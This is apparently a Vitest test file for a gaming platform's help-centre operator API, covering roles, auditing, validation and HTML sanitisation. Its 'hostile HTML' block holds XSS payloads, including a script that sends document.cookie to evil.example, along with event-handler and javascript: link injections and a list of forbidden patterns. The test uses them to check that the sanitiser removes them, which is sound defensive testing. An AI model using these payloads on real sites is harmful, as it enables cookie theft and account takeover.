import { randomBytes } from 'node:crypto';
import { API, helpListSchema, OPS_API, opsHelpItemSchema, opsHelpListSchema } from '@palaro/contract';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, valueOf } from '../../testing/api-client';
import { newPlayer, operatorToken, type TestPlayer } from '../../testing/money-fixtures';
import { buildTestApp } from '../../testing/test-app';
import { useTestDatabase } from '../../testing/test-database';

const database = useTestDatabase();
let app: FastifyInstance;
let admin: string;
let cashier: string;
let support: string;
let player: TestPlayer;

beforeAll(async () => {
  app = await buildTestApp(database.connection());
  [admin, cashier, support] = [
    await operatorToken(app, 'ops'),
    await operatorToken(app, 'cashier'),
    await operatorToken(app, 'support'),
  ];
  player = await newPlayer(app);
});
afterAll(() => app.close());

const input = (extra: Record<string, unknown> = {}) => ({
  tag: null,
  texts: {
    EN: {
      title: 'Bonus rules',
      content: '<p>How bonuses work.</p>',
      children: [{ title: 'Turnover', content: '<p>Play a bonus through 10 times.</p>' }],
    },
    TL: { title: 'Mga patakaran ng bonus', content: '<p>Paano gumagana ang bonus.</p>', children: [] },
  },
  sort: 100,
  ...extra,
});

const create = (token: string, body: object) => call(app, 'POST', OPS_API.helpItems, body, { token });
const edit = (token: string, id: string, body: object) => call(app, 'PUT', OPS_API.helpItem(id), body, { token });
const retire = (token: string, id: string) => call(app, 'POST', OPS_API.helpItemRetire(id), undefined, { token });
const listed = async (token: string) =>
  opsHelpListSchema.parse(valueOf(await call(app, 'GET', OPS_API.helpItems, undefined, { token })));
const created = async (body: object) => opsHelpItemSchema.parse(valueOf(await create(admin, body)));
const freshTag = () => `t${randomBytes(4).toString('hex')}`;

async function counts() {
  const { rows } = await app.db.query<{ items: number; audit: number; texts: string }>(
    `SELECT (SELECT count(*)::int FROM help_items) AS items,
            (SELECT count(*)::int FROM operator_audit WHERE action LIKE 'help.%') AS audit,
            (SELECT string_agg(texts::text || coalesce(tag, '') || sort, '|' ORDER BY id) FROM help_items) AS texts`,
  );
  return rows[0];
}

async function auditOf(id: string) {
  const { rows } = await app.db.query<{ action: string; operator: string; detail: { tag: string | null } }>(
    'SELECT action, operator, detail FROM operator_audit WHERE subject = $1 ORDER BY id',
    [`help:${id}`],
  );
  return rows;
}

describe('operators and the help centre', () => {
  it('lets an admin write, edit and retire, each change audited; every role lists them, retired ones too', async () => {
    const item = await created(input());
    expect(item).toMatchObject({ tag: null, sort: 100, retiredAt: null, createdBy: 'ops' });
    expect(item.texts.EN?.children).toEqual([{ title: 'Turnover', content: '<p>Play a bonus through 10 times.</p>' }]);

    const tag = freshTag();
    const edited = opsHelpItemSchema.parse(valueOf(await edit(admin, item.id, input({ tag, sort: 5 }))));
    expect(edited).toMatchObject({ id: item.id, tag, sort: 5 });
    const shown = helpListSchema.parse(valueOf(await call(app, 'GET', API.help)));
    expect(shown.find((section) => section.id === item.id)?.tag).toBe(tag);

    const retired = opsHelpItemSchema.parse(valueOf(await retire(admin, item.id)));
    expect(retired.retiredAt).toEqual(expect.any(Number));
    const players = helpListSchema.parse(valueOf(await call(app, 'GET', API.help)));
    expect(players.map((section) => section.id)).not.toContain(item.id);
    for (const token of [support, cashier, admin]) {
      const found = (await listed(token)).find((section) => section.id === item.id);
      expect(found?.retiredAt).toBe(retired.retiredAt);
    }
    expect(await auditOf(item.id)).toEqual([
      { action: 'help.create', operator: 'ops', detail: expect.objectContaining({ tag: null }) },
      { action: 'help.edit', operator: 'ops', detail: expect.objectContaining({ tag, before: expect.any(Object) }) },
      { action: 'help.retire', operator: 'ops', detail: expect.objectContaining({ tag }) },
    ]);
  });

  it('frees a retired section’s tag for a new one', async () => {
    const tag = freshTag();
    const old = await created(input({ tag }));
    valueOf(await retire(admin, old.id));
    expect((await created(input({ tag }))).tag).toBe(tag);
  });

  it('refuses support and cashiers every change, and callers without an operator session', async () => {
    const { id } = await created(input());
    const before = await counts();
    for (const token of [support, cashier]) {
      for (const response of [await create(token, input()), await edit(token, id, input()), await retire(token, id)]) {
        expect(response.statusCode).toBe(403);
        expect(response.json()).toMatchObject({ success: false, errorCode: 'permission.denied' });
      }
    }
    for (const token of [player.token, '']) {
      expect((await create(token, input())).statusCode).toBe(401);
      expect((await call(app, 'GET', OPS_API.helpItems, undefined, { token })).statusCode).toBe(401);
    }
    expect(await counts()).toEqual(before);
  });

  it('refuses input that breaks a rule, storing and auditing nothing', async () => {
    const { id } = await created(input());
    const taken = freshTag();
    await created(input({ tag: taken }));
    const before = await counts();
    const broken: [Record<string, unknown>, number, string, string | null][] = [
      [{ texts: { TL: input().texts.TL } }, 400, 'help.invalid', 'texts.EN'],
      [{ tag: 'Terms' }, 400, 'request.invalid', null],
      [{ tag: 'with space' }, 400, 'request.invalid', null],
      [{ tag: '9lives' }, 400, 'request.invalid', null],
      [{ sort: -1 }, 400, 'request.invalid', null],
      [{ texts: { EN: { title: 'Two\nlines', content: '' } } }, 400, 'request.invalid', null],
      [
        { texts: { EN: { title: 'Child', content: '', children: [{ title: '', content: '' }] } } },
        400,
        'request.invalid',
        null,
      ],
      [{ tag: taken }, 409, 'help.tagTaken', 'tag'],
    ];
    for (const [change, status, errorCode, field] of broken) {
      for (const response of [await create(admin, input(change)), await edit(admin, id, input(change))]) {
        expect(response.statusCode).toBe(status);
        const body = response.json<{ errorCode: string; fields?: Record<string, string> }>();
        expect(body.errorCode).toBe(errorCode);
        if (field) expect(Object.keys(body.fields ?? {})).toEqual([field]);
      }
    }
    expect(await counts()).toEqual(before);
  });

  it('lets a section keep its own tag on an edit', async () => {
    const tag = freshTag();
    const { id } = await created(input({ tag }));
    expect(opsHelpItemSchema.parse(valueOf(await edit(admin, id, input({ tag, sort: 7 }))))).toMatchObject({ tag });
  });

  it('answers an unknown id with help.unknown and a retired one with help.retired', async () => {
    for (const id of ['999999999', 'abc']) {
      for (const response of [await edit(admin, id, input()), await retire(admin, id)]) {
        expect(response.statusCode).toBe(404);
        expect(response.json()).toMatchObject({ success: false, errorCode: 'help.unknown' });
      }
    }
    const { id } = await created(input());
    valueOf(await retire(admin, id));
    const before = await counts();
    for (const response of [await edit(admin, id, input()), await retire(admin, id)]) {
      expect(response.statusCode).toBe(409);
      expect(response.json()).toMatchObject({ success: false, errorCode: 'help.retired' });
    }
    expect(await counts()).toEqual(before);
  });
});

describe('hostile HTML', () => {
  const HOSTILE = [
    '<p onclick="steal()">Read <b>this</b><script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">claim</a><a href="&#106;avascript:alert(2)">x</a>',
    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    '<div style="background:url(javascript:alert(5))" onmouseover="alert(6)">Help</div>',
    '<svg onload="alert(7)"></svg><form action="https://evil.example"><input></form>',
    '<a href="/m/forget">Forgot password</a> <a href="https://www.pagcor.ph" target="_blank">PAGCOR</a>',
  ].join('');
  const FORBIDDEN = [
    /<script/i,
    /onerror/i,
    /onclick/i,
    /onload/i,
    /onmouseover/i,
    /javascript:/i,
    /<iframe/i,
    /<style/i,
    /<svg/i,
    /<form/i,
    /<input/i,
    /style=/i,
    /evil\.example/i,
  ];

  it('is stored and served without scripts, handlers, frames or unsafe links, in the content and every child', async () => {
    const hostile = { title: 'Hostile', content: HOSTILE, children: [{ title: 'Child', content: HOSTILE }] };
    const item = await created(input({ texts: { EN: hostile, TL: hostile } }));
    const { rows } = await app.db.query<{
      texts: Record<string, { content: string; children: { content: string }[] }>;
    }>('SELECT texts FROM help_items WHERE id = $1', [BigInt(item.id)]);
    const served = helpListSchema
      .parse(valueOf(await call(app, 'GET', `${API.help}?lang=TL`)))
      .find((section) => section.id === item.id);
    const contents = [
      rows[0]?.texts.EN?.content,
      rows[0]?.texts.EN?.children[0]?.content,
      rows[0]?.texts.TL?.children[0]?.content,
      item.texts.EN?.content,
      item.texts.TL?.children[0]?.content,
      served?.content,
      served?.children[0]?.content,
    ];
    for (const content of contents) {
      expect(content).toEqual(expect.any(String));
      for (const pattern of FORBIDDEN) expect(content).not.toMatch(pattern);
      expect(content).toContain('Read <b>this</b>');
      expect(content).toContain('<a href="/m/forget">Forgot password</a>');
      expect(content).toContain('<a href="https://www.pagcor.ph" target="_blank" rel="noopener noreferrer">PAGCOR</a>');
      expect(content).toContain('<div>Help</div>');
    }
  });
});
